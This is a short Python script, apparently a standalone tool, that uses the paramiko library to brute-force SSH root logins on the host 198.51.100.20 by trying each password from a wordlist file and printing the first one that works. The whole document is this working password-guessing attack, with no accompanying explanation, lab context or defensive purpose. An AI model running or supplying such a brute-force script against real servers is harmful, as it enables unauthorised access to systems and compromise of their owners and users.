import paramiko
for pw in open('words.txt'):
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect('198.51.100.20', username='root', password=pw.strip()); print(pw); break
    except paramiko.AuthenticationException:
        pass
